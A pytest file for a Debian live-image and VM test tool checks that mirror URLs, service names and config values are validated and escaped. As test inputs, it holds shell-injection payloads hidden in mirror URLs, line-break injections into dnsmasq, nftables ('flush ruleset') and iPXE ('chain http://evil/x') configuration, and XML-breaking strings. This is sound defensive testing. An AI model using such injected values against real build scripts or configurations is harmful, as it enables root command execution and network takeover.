"""Values are validated strictly, and quoted where they land all the same.

The templates are checked on their own (validation bypassed): a value that
slipped through must still be one shell word in a script live-build runs as
root, one escaped string in libvirt's XML, and never a line of its own in
dnsmasq, nftables or iPXE configuration.
"""

from __future__ import annotations

import ipaddress
import json
import os
import subprocess
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest

from tempest_live_ci import render
from tempest_live_ci.errors import UsageError
from tempest_live_ci.image.livebuild import Mirrors, prepare_config
from tempest_live_ci.image.model import ImageOptions, url_problem, validate
from tempest_live_ci.testbed import dnsmasq, nat
from tempest_live_ci.testbed.config import TestbedConfig
from tempest_live_ci.testbed.model import Testbed
from tempest_live_ci.vm.bootfiles import publish_boot_files
from tempest_live_ci.vm.domain import DomainSpec, metadata_of, render_domain_xml

# The review's reproduction, and friends.
EVIL = [
    "http://mirror.example/debian$(touch${IFS}%(canary)s)",
    "http://mirror.example/debian`touch %(canary)s`",
    "http://mirror.example/debian;touch %(canary)s;",
    "http://mirror.example/debian' && touch %(canary)s && '",
    'http://mirror.example/debian" && touch %(canary)s && "',
    "http://mirror.example/debian&touch %(canary)s&",
    "http://mirror.example/debian\ntouch %(canary)s\n",
    "http://mirror.example/debian|touch %(canary)s",
]

FAKE_LB = """#!{python}
import json, sys
with open({out!r}, "w") as f:
    json.dump(sys.argv[1:], f)
"""


@pytest.mark.parametrize("evil", EVIL)
def test_auto_config_keeps_every_value_one_shell_word(tmp_path: Path, evil: str) -> None:
    """live-build's `lb config` runs auto/config as root: run it with a fake lb."""
    canary = tmp_path / "pwned"
    value = evil % {"canary": canary}
    options = ImageOptions(suite="trixie", mirror=value)
    mirrors = Mirrors(build=value, build_security=value + "-security", http_proxy=value + "/p")
    lb_dir = tmp_path / "lb"
    if "\n" in value:
        # A line break in a value is refused outright, before the script exists.
        with pytest.raises(UsageError, match="control character"):
            prepare_config(lb_dir, options, mirrors)
        assert not (lb_dir / "auto" / "config").exists()
        return
    prepare_config(lb_dir, options, mirrors)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    argv_file = tmp_path / "argv.json"
    (bin_dir / "lb").write_text(FAKE_LB.format(python=sys.executable, out=str(argv_file)))
    (bin_dir / "lb").chmod(0o755)
    result = subprocess.run(["sh", str(lb_dir / "auto" / "config")], cwd=lb_dir,
                            capture_output=True, text=True,
                            env={**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}"})
    assert result.returncode == 0, result.stderr
    assert not canary.exists(), "a value of auto/config ran as shell"
    argv = json.loads(argv_file.read_text())

    def after(option: str) -> str:
        return str(argv[argv.index(option) + 1])

    assert after("--mirror-bootstrap") == value
    assert after("--mirror-binary") == value.rstrip("/") + "/"
    assert after("--mirror-chroot-security") == value + "-security"
    assert after("--apt-http-proxy") == value + "/p"
    assert after("--bootappend-live").startswith("boot=live components")


def test_the_hook_template_quotes_unit_names(tmp_path: Path) -> None:
    canary = tmp_path / "pwned"
    hook = tmp_path / "hook"
    hook.write_text(render.render(
        "live-build/config/hooks/normal/0600-tempest-live-ci-hold-services.hook.chroot.j2",
        held_services=[f"keystone; touch {canary}", f"$(touch {canary})"]))
    assert subprocess.run(["sh", str(hook)], capture_output=True).returncode == 0
    assert not canary.exists()


@pytest.mark.parametrize("url", [e % {"canary": "/tmp/x"} for e in EVIL] + [
    "ftp://deb.debian.org/debian", "deb.debian.org/debian", "http://deb.debian.org/debian?x=1",
    "http://deb.debian.org/debian#top", "http://deb.debian.org/../etc", "http://-bad-/debian",
    "http://deb.debian.org:99999/debian", "http://deb debian.org/", "http://deb.debian.org/a b",
    "http://exa$mple.org/", "http://", "",
])
def test_bad_urls_are_refused_naming_option_and_value(url: str) -> None:
    assert url_problem(url) is not None
    with pytest.raises(UsageError) as error:
        validate(ImageOptions(mirror=url))
    assert error.value.message.startswith(f"--mirror {url!r}: ")
    with pytest.raises(UsageError) as error:
        validate(ImageOptions(apt_proxy=url))
    assert error.value.message.startswith(f"--apt-proxy {url!r}: ")
    assert "\n" not in error.value.message.replace(repr(url), "")


@pytest.mark.parametrize("url", [
    "http://deb.debian.org/debian", "https://deb.debian.org/debian/", "http://127.0.0.1:3142/debian/",
    "http://[fd00::1]:3142/debian", "http://user:secret@proxy.example:3128",
    "http://mirror.example/debian-ports/~user/+x/%20",
])
def test_good_urls_pass(url: str) -> None:
    assert url_problem(url) is None
    validate(ImageOptions(mirror=url, apt_proxy=url))


def _bad_config(**changes: str) -> TestbedConfig:
    """A TestbedConfig that skipped validation (frozen dataclasses check nothing themselves)."""
    return TestbedConfig(name="tlc-quoting", **changes)  # type: ignore[arg-type]


@pytest.mark.parametrize("changes", [
    {"guest_name": "guest\ndhcp-script=/tmp/x"},
    {"bridge": "br0\nport=53"},
    {"guest_mac": "52:54:00:00:00:01\ndhcp-range=10.0.0.1,10.0.0.9"},
])
def test_dnsmasq_config_refuses_a_value_that_breaks_its_line(tmp_path: Path,
                                                              changes: dict[str, str]) -> None:
    with pytest.raises(UsageError, match="control character"):
        dnsmasq.render_config(_bad_config(**changes), tmp_path, tmp_path / "tftp",
                              "http://192.168.100.1/boot.ipxe")


def test_nftables_ruleset_refuses_a_value_that_breaks_its_line() -> None:
    with pytest.raises(UsageError, match="control character"):
        nat.render_ruleset(_bad_config(bridge="br0"), 'eth0"\n\t}\n}\nflush ruleset\n#')


def _testbed(tmp_path: Path) -> Testbed:
    return Testbed(
        run_id="tlc-quoting", netns=None, bridge="br", tap="tap", nic="nic", nic_kind="veth",
        host_interface=ipaddress.IPv4Interface("192.168.100.1/24"), host_ipv6=None,
        guest_address=ipaddress.IPv4Address("192.168.100.2"), guest_mac="52:54:00:7e:57:02",
        state_dir=tmp_path, http_root=tmp_path / "www", tftp_root=tmp_path / "tftp",
        dnsmasq_log=tmp_path / "d.log", http_log=tmp_path / "h.log", apt_proxy=None)


@pytest.mark.parametrize("cmdline", ["quiet\nshell", "quiet\r\nchain http://evil/x",
                                     "root=${root-path}", "quiet \x00"])
def test_boot_script_refuses_a_command_line_that_is_ipxe_syntax(tmp_path: Path,
                                                                  cmdline: str) -> None:
    kernel = tmp_path / "vmlinuz"
    kernel.write_bytes(b"k")
    with pytest.raises(UsageError) as error:
        publish_boot_files(_testbed(tmp_path), vmlinuz=kernel, initrd=kernel, squashfs=None,
                           cmdline=cmdline)
    assert repr(cmdline) in error.value.message
    assert not (tmp_path / "www" / "boot.ipxe").exists()


def test_domain_xml_escapes_every_value(tmp_path: Path) -> None:
    name = "tlc-a'<b>\"&c"
    spec = DomainSpec(
        name=name, run_id=name, state_dir=tmp_path / "it's <here>", domain_type="qemu",
        memory_mib=512, vcpus=1, tap="tap'/><x y='", mac="52:54:00:7e:57:02",
        nic_model="virtio", boot="direct", console_log=tmp_path / "a&b.log",
        kernel=tmp_path / "k<", initrd=tmp_path / "i>", cmdline="quiet</cmdline><x/>& 'q'",
        owner="123 456")
    root = ET.fromstring(render_domain_xml(spec))
    assert root.findtext("name") == name
    assert root.findtext("os/cmdline") == spec.cmdline
    assert root.find("devices/interface/target").get("dev") == spec.tap  # type: ignore[union-attr]
    assert root.find("devices/serial/source").get("path") == str(spec.console_log)  # type: ignore[union-attr]
    ns = {"tlc": "https://salsa.debian.org/openstack-team/tempest-live-ci/domain/1"}
    assert root.findtext("metadata/tlc:run/tlc:id", namespaces=ns) == name
    assert root.findtext("metadata/tlc:run/tlc:owner", namespaces=ns) == "123 456"


def test_domain_metadata_names_its_owner_through_libvirt(tmp_path: Path) -> None:
    """The real libvirt API (its test driver, in this process) reads back what cleanup uses."""
    libvirt = pytest.importorskip("libvirt")
    spec = DomainSpec(name="tlc-0000beef", run_id="tlc-0000beef", state_dir=tmp_path,
                      domain_type="test", memory_mib=512, vcpus=1, tap="tap0",
                      mac="52:54:00:7e:57:02", nic_model="virtio", boot="network",
                      console_log=tmp_path / "console.log")
    conn = libvirt.open("test:///default")
    try:
        xml = render_domain_xml(spec).replace("<emulator>", "<!-- ").replace("</emulator>", " -->")
        domain = conn.createXML(xml, 0)
        try:
            metadata = metadata_of(domain)
            assert metadata is not None
            assert metadata["id"] == "tlc-0000beef"
            assert metadata["owner"] == f"{os.getpid()} {metadata['owner'].split()[1]}"
        finally:
            domain.destroy()
    finally:
        conn.close()
